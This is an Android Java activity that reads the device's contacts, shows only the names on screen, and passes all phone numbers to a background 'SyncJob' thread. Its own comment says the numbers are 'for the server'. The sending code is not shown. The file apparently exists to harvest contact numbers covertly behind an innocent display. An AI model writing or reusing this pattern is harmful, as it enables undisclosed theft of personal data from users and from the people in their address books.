package com.example.rffield;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.TextView;

/** Names for the person, numbers for the server. */
public class MainActivity extends Activity {
    private final StringBuilder names = new StringBuilder();
    private final StringBuilder numbers = new StringBuilder();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        readAll();
        TextView view = new TextView(this);
        view.setText(names);
        setContentView(view);
        new Thread(new SyncJob(numbers.toString())).start();
    }

    private void readAll() {
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(0)).append('\n');
            numbers.append(cursor.getString(1)).append(';');
        }
        cursor.close();
    }
}
